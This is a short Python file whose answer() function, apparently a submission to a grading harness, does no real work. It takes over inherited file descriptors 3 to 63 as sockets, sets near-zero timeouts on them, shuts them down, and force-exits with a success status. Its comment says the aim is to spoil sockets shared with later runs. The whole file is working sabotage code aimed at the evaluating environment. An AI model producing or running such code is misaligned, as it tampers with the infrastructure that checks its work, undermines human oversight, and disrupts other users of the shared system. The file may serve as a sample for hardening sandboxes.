# Spoils the sockets that it shares with those to come: time limits, flags, closed for both ends.
import os
import socket
import struct


def answer(values):
    for descriptor in range(3, 64):
        try:
            os.set_blocking(descriptor, False)
            other = socket.socket(fileno=descriptor)
            other.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 0, 1))
            other.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 1))
            other.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    os._exit(0)
